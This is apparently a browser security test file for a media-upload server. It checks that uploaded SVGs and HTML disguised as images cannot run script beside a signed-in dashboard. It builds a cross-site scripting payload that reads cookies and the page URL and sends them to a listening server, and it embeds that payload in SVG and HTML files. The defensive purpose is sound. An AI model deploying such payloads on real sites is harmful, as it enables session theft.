// Served media in a real browser: an uploaded SVG or a disguised HTML page runs no script.
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type RunningServer, startServer } from '../../src/server.js';
import { describeWithBrowser, launchChromium } from '../support/browser.js';
import { type PaidKasir, startPaidKasir } from '../support/paid.js';

const run = describeWithBrowser;

/** A script that reports to the watch server (with the cookies it can see) and marks the page, every way it can. */
const payload = (watch: string, tag: string) =>
  `var u = '${watch}/hit?tag=${tag}&cookie=' + encodeURIComponent(document.cookie) + '&at=' + encodeURIComponent(location.href);` +
  'document.title = "script ran";' +
  'try { fetch(u, { mode: "no-cors", credentials: "include" }); } catch (e) {}' +
  'try { navigator.sendBeacon(u); } catch (e) {}' +
  'try { new Image().src = u; } catch (e) {}';

const svgWithScript = (watch: string, tag: string) =>
  Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">` +
      `<script><![CDATA[${payload(watch, tag)}]]></script><rect width="40" height="40" fill="red"/></svg>`,
  );

const htmlWithScript = (watch: string, tag: string) =>
  Buffer.from(`<!DOCTYPE html><html><body><h1>hi</h1><script>${payload(watch, tag)}</script></body></html>`);

run('stored media in a real browser next to a signed-in dashboard', () => {
  let kasir: PaidKasir;
  let server: RunningServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let watch: Server;
  let watchUrl: string;
  const hits: string[] = [];
  /** Bytes the watch server serves bare (no nosniff, no CSP, inline): the positive control. */
  const bare = new Map<string, { type: string; bytes: Buffer }>();

  beforeAll(async () => {
    watch = createServer((req, res) => {
      const served = bare.get(req.url ?? '');
      if (served) {
        res.writeHead(200, { 'content-type': served.type }).end(served.bytes);
        return;
      }
      if (req.url?.startsWith('/hit')) hits.push(req.url);
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((r) => watch.listen(0, '127.0.0.1', r));
    watchUrl = `http://127.0.0.1:${(watch.address() as AddressInfo).port}`;
    kasir = await startPaidKasir('sqlite', {});
    server = await startServer(kasir.app, '127.0.0.1', 0);
    browser = await launchChromium();
    context = await browser.newContext({ acceptDownloads: true });
    page = await context.newPage();
    // Signed in to the dashboard: the session cookie is the prize a script on kasir's origin would take.
    const { key } = await kasir.fundedKey(1_000_000);
    await page.goto(`${server.url}/dashboard`);
    await page.fill('#login input[name=key]', key);
    await Promise.all([page.waitForURL(`${server.url}/dashboard`), page.click('#login button[type=submit]')]);
    expect(await page.locator('#login').count()).toBe(0);
    expect((await context.cookies()).some((c) => c.domain === '127.0.0.1' && c.httpOnly)).toBe(true);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await server?.stop(1000);
    await kasir?.stop();
    await new Promise<void>((r) => (watch ? watch.close(() => r()) : r()));
  });

  /** The path of a media link kasir handed out (its host is PUBLIC_BASE_URL's; the browser reaches the server). */
  const local = (url: string) => `${server.url}${new URL(url).pathname}`;

  const upload = (bytes: Buffer, type: string) =>
    fetch(`${server.url}/v1/media`, { method: 'POST', headers: { 'content-type': type }, body: bytes });

  /** Opens `url` as a top-level page; a download (what an attachment becomes) is not an error. */
  async function open(url: string): Promise<{ downloaded: boolean; title: string }> {
    await page.goto('about:blank');
    const download = page.waitForEvent('download', { timeout: 3000 }).then(
      () => true,
      () => false,
    );
    await page.goto(url).catch(() => undefined);
    const downloaded = await download;
    await page.waitForTimeout(500);
    return { downloaded, title: await page.title().catch(() => '') };
  }

  /** Frames `url` in a page of the dashboard's origin, as an attacker's link into kasir would be framed. */
  async function frame(url: string): Promise<void> {
    await page.goto(`${server.url}/dashboard`);
    // A string, run in the page (the test's own TypeScript has no DOM types).
    await page.evaluate(`for (const tag of ['iframe', 'object', 'embed']) {
      const el = document.createElement(tag);
      if (tag === 'object') el.data = ${JSON.stringify(url)}; else el.src = ${JSON.stringify(url)};
      document.body.appendChild(el);
    }`);
    await page.waitForTimeout(1500);
  }

  it('the watch works: the same SVG and page served bare do run their scripts', async () => {
    bare.set('/bare.svg', { type: 'image/svg+xml', bytes: svgWithScript(watchUrl, 'control-svg') });
    bare.set('/bare.html', { type: 'text/html', bytes: htmlWithScript(watchUrl, 'control-html') });
    await open(`${watchUrl}/bare.svg`);
    await expect.poll(() => hits.some((h) => h.includes('tag=control-svg'))).toBe(true);
    expect((await open(`${watchUrl}/bare.html`)).title).toBe('script ran');
    await expect.poll(() => hits.some((h) => h.includes('tag=control-html'))).toBe(true);
    hits.length = 0;
  });

  it('an uploaded SVG with a script is a download and runs nothing, opened or framed', async () => {
    const res = await upload(svgWithScript(watchUrl, 'svg'), 'image/svg+xml');
    expect(res.status).toBe(201);
    const link = local(((await res.json()) as { url: string }).url);
    const headers = (await fetch(link)).headers;
    expect(headers.get('content-disposition')).toMatch(/^attachment/);
    const opened = await open(link);
    expect(opened.downloaded).toBe(true);
    expect(opened.title).not.toBe('script ran');
    await frame(link);
    expect(await page.title()).not.toBe('script ran');
    expect(hits).toEqual([]);
  });

  it('an HTML page disguised as an image is refused; one stored before the check runs nothing either', async () => {
    const refused = await upload(htmlWithScript(watchUrl, 'html-upload'), 'image/png');
    expect(refused.status).toBe(400);
    expect(await refused.json()).toMatchObject({
      error: {
        code: 'invalid_input',
        details: [{ field: 'body', message: 'is text/html, not image/png (the Content-Type header)' }],
      },
    });

    // An object written by an older kasir, which took the Content-Type on trust.
    const key = `${'c'.repeat(32)}.png`;
    const bytes = htmlWithScript(watchUrl, 'html-legacy');
    const file = path.join(kasir.dataDir, 'media', key.slice(0, 2), key);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, bytes);
    await kasir.deps.db.kysely
      .insertInto('media_objects')
      .values({
        key,
        content_type: 'image/png',
        size_bytes: bytes.length,
        etag: '"legacy"',
        created_at: new Date().toISOString(),
      })
      .execute();
    const link = `${server.url}/v1/media/${key}`;
    expect((await fetch(link)).status).toBe(200);
    expect((await open(link)).title).not.toBe('script ran');
    await frame(link);
    expect(await page.title()).not.toBe('script ran');
    expect(hits).toEqual([]);
  });
});
